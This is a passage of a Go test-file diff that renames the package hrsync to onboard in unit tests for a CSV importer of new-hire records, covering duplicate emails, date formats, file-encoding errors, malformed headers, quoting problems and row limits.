-			want: []hrsync.Hire{{Line: 2, Employee: emp("Élodie", "Martin", "élodie@exemple.fr", "", "2025-01-06")}},
-			prob: []hrsync.RowProblem{{Line: 3, Email: "ÉLODIE@EXEMPLE.FR", Reason: "email: used again (first on line 2)", Duplicate: true}},
+			want: []onboard.Hire{{Line: 2, Employee: emp("Élodie", "Martin", "élodie@exemple.fr", "", "2025-01-06")}},
+			prob: []onboard.RowProblem{{Line: 3, Email: "ÉLODIE@EXEMPLE.FR", Reason: "email: used again (first on line 2)", Duplicate: true}},
 		},
 		{
 			name: "the first row counts even when it is rejected",
 			rows: "Ada,Lovelace,ada@example.com,06/01/2025\nAda,Lovelace,ada@example.com,2025-01-06\n",
-			prob: []hrsync.RowProblem{
+			prob: []onboard.RowProblem{
 				{Line: 2, Email: "ada@example.com", Reason: notADate},
 				{Line: 3, Email: "ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true},
 			},
@@ -441,19 +441,19 @@ func TestReadHiresDuplicates(t *testing.T) {
 		{
 			name: "a repeat is skipped whatever else is wrong with it",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06\n,,ada@example.com,soon\n",
-			want: []hrsync.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
-			prob: []hrsync.RowProblem{{Line: 3, Email: "ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true}},
+			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			prob: []onboard.RowProblem{{Line: 3, Email: "ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true}},
 		},
 		{
 			name: "spaces around the email do not hide a repeat",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06\nAda,Lovelace,  ada@example.com ,2025-01-06\n",
-			want: []hrsync.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
-			prob: []hrsync.RowProblem{{Line: 3, Email: "ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true}},
+			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			prob: []onboard.RowProblem{{Line: 3, Email: "ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true}},
 		},
 		{
 			name: "invalid emails are not repeats but invalid",
 			rows: "Ada,Lovelace,ada,2025-01-06\nAda,Lovelace,ada,2025-01-06\n",
-			prob: []hrsync.RowProblem{
+			prob: []onboard.RowProblem{
 				{Line: 2, Email: "ada", Reason: "email: not a valid email address"},
 				{Line: 3, Email: "ada", Reason: "email: not a valid email address"},
 			},
@@ -461,7 +461,7 @@ func TestReadHiresDuplicates(t *testing.T) {
 		{
 			name: "different emails",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06\nAda,Lovelace,ada.l@example.com,2025-01-06\n",
-			want: []hrsync.Hire{
+			want: []onboard.Hire{
 				{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")},
 				{Line: 3, Employee: emp("Ada", "Lovelace", "ada.l@example.com", "", "2025-01-06")},
 			},
@@ -469,7 +469,7 @@ func TestReadHiresDuplicates(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			h, p, err := hrsync.ReadHires(strings.NewReader(header+tt.rows), hrsync.HireOptions{})
+			h, p, err := onboard.ReadHires(strings.NewReader(header+tt.rows), onboard.HireOptions{})
 			checkHires(t, h, p, err, tt.want, tt.prob)
 		})
 	}
@@ -493,7 +493,7 @@ func TestReadHiresDateLayout(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.layout, func(t *testing.T) {
-			h, _, err := hrsync.ReadHires(strings.NewReader(in), hrsync.HireOptions{DateLayout: tt.layout})
+			h, _, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{DateLayout: tt.layout})
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -508,7 +508,7 @@ func TestReadHiresDateLayout(t *testing.T) {
 	}
 	for _, layout := range []string{"2006", "01/2006", "02/01", "Monday", "hello"} {
 		t.Run("refused "+layout, func(t *testing.T) {
-			_, _, err := hrsync.ReadHires(strings.NewReader(in), hrsync.HireOptions{DateLayout: layout})
+			_, _, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{DateLayout: layout})
 			if err == nil || !strings.Contains(err.Error(), "DateLayout") {
 				t.Fatalf("err = %v, want the layout refused", err)
 			}
@@ -538,36 +538,36 @@ func TestReadHiresFileErrors(t *testing.T) {
 	tests := []struct {
 		name string
 		in   io.Reader
-		opts hrsync.HireOptions
+		opts onboard.HireOptions
 		want []string // substrings of the error
 	}{
-		{"UTF-16 LE (Excel's Unicode Text)", bytes.NewReader(utf16Bytes(strings.ReplaceAll(good, ",", "\t"), false, true)), hrsync.HireOptions{}, []string{"is UTF-16 text", "save it as CSV UTF-8"}},
-		{"UTF-16 BE", bytes.NewReader(utf16Bytes(good, true, true)), hrsync.HireOptions{}, []string{"is UTF-16 text", "save it as CSV UTF-8"}},
-		{"UTF-16 without BOM", bytes.NewReader(utf16Bytes(good, false, false)), hrsync.HireOptions{}, []string{"NUL", "save it as CSV UTF-8"}},
-		{"Windows-1252", strings.NewReader("First name,Last name,Email,Join date\nZo\xeb,\xd8deg\xe5rd,zoe@example.com,2025-01-06\n"), hrsync.HireOptions{}, []string{"line 2", "not UTF-8", "save it as CSV UTF-8"}},
-		{"NUL far into the file", strings.NewReader(good + strings.Repeat("Ada,Lovelace,ada@example.com,2025-01-06\n", 2000) + "Ada\x00,Lovelace,ada@example.com,2025-01-06\n"), hrsync.HireOptions{}, []string{"line 2003", "NUL"}},
-		{"xlsx", strings.NewReader("PK\x03\x04\x14\x00\x06\x00"), hrsync.HireOptions{}, []string{"workbook", "save it as CSV UTF-8"}},
-		{"xls", bytes.NewReader([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0}), hrsync.HireOptions{}, []string{"workbook", "save it as CSV UTF-8"}},
-		{"empty", strings.NewReader(""), hrsync.HireOptions{}, []string{"no header"}},
-		{"BOM only", strings.NewReader("\ufeff"), hrsync.HireOptions{}, []string{"no header"}},
-		{"blank rows only", strings.NewReader(",,,\r\n,,,\r\n\r\n"), hrsync.HireOptions{}, []string{"no header"}},
-		{"data where the header should be", strings.NewReader("Ada,Lovelace,ada@example.com,2025-01-06\n"), hrsync.HireOptions{}, []string{"line 1", "not a header"}},
-		{"join date column missing", strings.NewReader("First name,Last name,Email,Job title\nAda,Lovelace,ada@example.com,Analyst\n"), hrsync.HireOptions{}, []string{"line 1", "lacks required columns: join_date", `"Start date"`}},
-		{"two columns missing", strings.NewReader("Surname,Start date\nLovelace,2025-01-06\n"), hrsync.HireOptions{}, []string{"first_name (e.g.", "email (e.g."}},
-		{"a field named twice", strings.NewReader("First name,Last name,Email,Work email,Join date\n"), hrsync.HireOptions{}, []string{"line 1", `columns 3 ("Email") and 4 ("Work email") both give email`}},
-		{"a field named twice, aliases", strings.NewReader("First name,Last name,Email,Start date,Join date\n"), hrsync.HireOptions{}, []string{"both give join_date"}},
-		{"quote opened and never closed", strings.NewReader(good + "Grace,\"Hopper,grace@example.com,2025-01-13\nAlan,Turing,alan@example.com,2025-01-20\n"), hrsync.HireOptions{}, []string{"lines 3-4", "unbalanced quotes"}},
-		{"quote closed rows later", strings.NewReader(good + "Grace,\"Hopper,grace@example.com,2025-01-13\nAlan,\"Turing, Jr.\",alan@example.com,2025-01-20\n"), hrsync.HireOptions{}, []string{"lines 3-4", "unbalanced quotes"}},
-		{"header unreadable", strings.NewReader("First name,\"Last\" name,Email,Join date\nAda,Lovelace,ada@example.com,2025-01-06\n"), hrsync.HireOptions{}, []string{"line 1", "header cannot be read"}},
-		{"too many rows", strings.NewReader(good + "Grace,Hopper,grace@example.com,2025-01-13\nAlan,Turing,alan,2025-01-20\n"), hrsync.HireOptions{MaxRows: 2}, []string{"line 4", "more than 2 rows"}},
-		{"bad layout", strings.NewReader(good), hrsync.HireOptions{DateLayout: "2006"}, []string{"DateLayout"}},
-		{"read error at once", iotest.ErrReader(boom), hrsync.HireOptions{}, nil},
-		{"read error later", io.MultiReader(strings.NewReader(good), iotest.ErrReader(boom)), hrsync.HireOptions{}, nil},
-		{"read error past the first 64 KiB", io.MultiReader(strings.NewReader(good+strings.Repeat(",,,\n", 20000)), iotest.ErrReader(boom)), hrsync.HireOptions{}, nil},
+		{"UTF-16 LE (Excel's Unicode Text)", bytes.NewReader(utf16Bytes(strings.ReplaceAll(good, ",", "\t"), false, true)), onboard.HireOptions{}, []string{"is UTF-16 text", "save it as CSV UTF-8"}},
+		{"UTF-16 BE", bytes.NewReader(utf16Bytes(good, true, true)), onboard.HireOptions{}, []string{"is UTF-16 text", "save it as CSV UTF-8"}},
+		{"UTF-16 without BOM", bytes.NewReader(utf16Bytes(good, false, false)), onboard.HireOptions{}, []string{"NUL", "save it as CSV UTF-8"}},
+		{"Windows-1252", strings.NewReader("First name,Last name,Email,Join date\nZo\xeb,\xd8deg\xe5rd,zoe@example.com,2025-01-06\n"), onboard.HireOptions{}, []string{"line 2", "not UTF-8", "save it as CSV UTF-8"}},
+		{"NUL far into the file", strings.NewReader(good + strings.Repeat("Ada,Lovelace,ada@example.com,2025-01-06\n", 2000) + "Ada\x00,Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{}, []string{"line 2003", "NUL"}},
+		{"xlsx", strings.NewReader("PK\x03\x04\x14\x00\x06\x00"), onboard.HireOptions{}, []string{"workbook", "save it as CSV UTF-8"}},
+		{"xls", bytes.NewReader([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0}), onboard.HireOptions{}, []string{"workbook", "save it as CSV UTF-8"}},
+		{"empty", strings.NewReader(""), onboard.HireOptions{}, []string{"no header"}},
+		{"BOM only", strings.NewReader("\ufeff"), onboard.HireOptions{}, []string{"no header"}},
+		{"blank rows only", strings.NewReader(",,,\r\n,,,\r\n\r\n"), onboard.HireOptions{}, []string{"no header"}},
+		{"data where the header should be", strings.NewReader("Ada,Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{}, []string{"line 1", "not a header"}},
+		{"join date column missing", strings.NewReader("First name,Last name,Email,Job title\nAda,Lovelace,ada@example.com,Analyst\n"), onboard.HireOptions{}, []string{"line 1", "lacks required columns: join_date", `"Start date"`}},
+		{"two columns missing", strings.NewReader("Surname,Start date\nLovelace,2025-01-06\n"), onboard.HireOptions{}, []string{"first_name (e.g.", "email (e.g."}},
+		{"a field named twice", strings.NewReader("First name,Last name,Email,Work email,Join date\n"), onboard.HireOptions{}, []string{"line 1", `columns 3 ("Email") and 4 ("Work email") both give email`}},
+		{"a field named twice, aliases", strings.NewReader("First name,Last name,Email,Start date,Join date\n"), onboard.HireOptions{}, []string{"both give join_date"}},
+		{"quote opened and never closed", strings.NewReader(good + "Grace,\"Hopper,grace@example.com,2025-01-13\nAlan,Turing,alan@example.com,2025-01-20\n"), onboard.HireOptions{}, []string{"lines 3-4", "unbalanced quotes"}},
+		{"quote closed rows later", strings.NewReader(good + "Grace,\"Hopper,grace@example.com,2025-01-13\nAlan,\"Turing, Jr.\",alan@example.com,2025-01-20\n"), onboard.HireOptions{}, []string{"lines 3-4", "unbalanced quotes"}},
+		{"header unreadable", strings.NewReader("First name,\"Last\" name,Email,Join date\nAda,Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{}, []string{"line 1", "header cannot be read"}},
+		{"too many rows", strings.NewReader(good + "Grace,Hopper,grace@example.com,2025-01-13\nAlan,Turing,alan,2025-01-20\n"), onboard.HireOptions{MaxRows: 2}, []string{"line 4", "more than 2 rows"}},
+		{"bad layout", strings.NewReader(good), onboard.HireOptions{DateLayout: "2006"}, []string{"DateLayout"}},
+		{"read error at once", iotest.ErrReader(boom), onboard.HireOptions{}, nil},
+		{"read error later", io.MultiReader(strings.NewReader(good), iotest.ErrReader(boom)), onboard.HireOptions{}, nil},
+		{"read error past the first 64 KiB", io.MultiReader(strings.NewReader(good+strings.Repeat(",,,\n", 20000)), iotest.ErrReader(boom)), onboard.HireOptions{}, nil},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			h, p, err := hrsync.ReadHires(tt.in, tt.opts)
+			h, p, err := onboard.ReadHires(tt.in, tt.opts)
 			if err == nil {
 				t.Fatalf("no error; hires %s problems %s", dump(h), dump(p))
 			}
@@ -600,19 +600,19 @@ func TestReadHiresMaxRows(t *testing.T) {
 	}
 	b.WriteString("Bad,Row,bad,2025-01-06\n")
 	in := b.String()
-	if _, _, err := hrsync.ReadHires(strings.NewReader(in), hrsync.HireOptions{MaxRows: 4}); err != nil {
+	if _, _, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{MaxRows: 4}); err != nil {
 		t.Errorf("4 rows (and blank ones) with MaxRows 4: %v", err)
 	}
-	if _, _, err := hrsync.ReadHires(strings.NewReader(in), hrsync.HireOptions{MaxRows: 3}); err == nil {
+	if _, _, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{MaxRows: 3}); err == nil {
 		t.Error("4 rows with MaxRows 3: no error")
 	}
 
 	var big strings.Builder
 	big.WriteString("First name,Last name,Email,Join date\n")
-	for range hrsync.DefaultMaxHireRows + 1 {
+	for range onboard.DefaultMaxHireRows + 1 {
 		big.WriteString("A,B,c,d\n")
 	}
-	if _, _, err := hrsync.ReadHires(strings.NewReader(big.String()), hrsync.HireOptions{}); err == nil || !strings.Contains(err.Error(), "more than 100000 rows") {
+	if _, _, err := onboard.ReadHires(strings.NewReader(big.String()), onboard.HireOptions{}); err == nil || !strings.Contains(err.Error(), "more than 100000 rows") {
 		t.Errorf("default limit: err = %v", err)
 	}
 }
@@ -640,7 +640,7 @@ func TestSafeCell(t *testing.T) {
 		{" ", " "},
 	}
 	for _, tt := range tests {
-		if got := hrsync.SafeCell(tt.in); got != tt.want {
+		if got := onboard.SafeCell(tt.in); got != tt.want {
 			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
 		}
 	}
@@ -648,7 +648,7 @@ func TestSafeCell(t *testing.T) {
 	var b bytes.Buffer
 	w := csv.NewWriter(&b)
 	for _, tt := range tests {
-		if err := w.Write([]string{hrsync.SafeCell(tt.in), "x"}); err != nil {
+		if err := w.Write([]string{onboard.SafeCell(tt.in), "x"}); err != nil {
 			t.Fatal(err)
 		}
 	}
